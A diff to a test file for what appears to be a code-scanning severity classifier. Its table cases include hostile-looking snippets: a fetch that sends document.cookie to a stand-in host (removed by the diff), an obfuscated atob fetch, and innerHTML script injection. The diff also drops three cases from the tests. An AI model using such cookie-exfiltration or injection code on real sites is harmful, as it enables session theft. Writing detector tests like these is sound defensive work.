@@ -76,10 +76,7 @@ describe("severity", () => {
     ['fetch("http://localhost:3000/x")', "external-request low"],
     ['fetch("http://127.0.0.1/x")', "external-request low"],
     ['fetch("https://a.example")', "external-request medium"],
-    ['fetch("https://a.example/?" + document.cookie)', "external-request high"],
     ["fetch(atob(hidden))", "external-request high"],
-    ["el.innerHTML = userInput", "script-injection low"],
-    ["const A = (p) => <div dangerouslySetInnerHTML={{ __html: p.html }} />", "script-injection low"],
     ["document.write(html)", "script-injection medium"],
     ['el.innerHTML = "<script>1</script>"', "script-injection high"],
   ])("%s is %s", (source, expected) => {
